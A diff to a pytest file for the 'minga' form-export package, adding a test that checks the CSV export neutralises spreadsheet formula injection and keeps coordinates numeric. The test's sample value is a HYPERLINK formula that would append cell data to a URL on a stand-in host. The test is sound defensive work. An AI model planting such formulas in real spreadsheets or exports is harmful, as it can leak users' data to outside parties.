@@ -4,6 +4,7 @@ repeat), GeoJSON of located submissions and JSON, written into a folder."""
 import csv
 import json
 
+import pandas
 import pytest
 
 import minga
@@ -51,3 +52,18 @@ def test_a_submission_of_a_form_not_given_is_refused_and_nothing_written(store, 
     store.close()
     with pytest.raises(minga.MingaError.Closed):
         store.export([dialogue], minga.ExportFormat.JSON, str(tmp_path / "out"))
+
+
+def test_an_analyst_reads_formulas_as_text_and_coordinates_as_numbers_in_pandas(store, dialogue, tmp_path):
+    sid = store.create_submission(dialogue.form_ref())
+    formula = '=HYPERLINK("https://example.invalid/?"&A2,"Open")'
+    store.set_answer(sid, path("convening_institution"), minga.Value.TEXT(text=formula))
+    where = minga.GeoPoint(latitude=-0.2299, longitude=-78.5, altitude=None, accuracy=4.5)
+    store.set_answer(sid, path("location"), minga.Value.GEO_POINT(point=where))
+    store.export([dialogue], minga.ExportFormat.CSV, str(tmp_path))
+    table = pandas.read_csv(tmp_path / "minga_stakeholder_dialogue.csv")
+    # The spreadsheet would run the formula; the export writes it as text a reader can undo.
+    assert table["convening_institution"][0] == "'" + formula
+    assert table["place-location-Longitude"].dtype.kind == "f"
+    assert table["place-location-Longitude"][0] == -78.5
+    assert table["place-location-Latitude"][0] == -0.2299
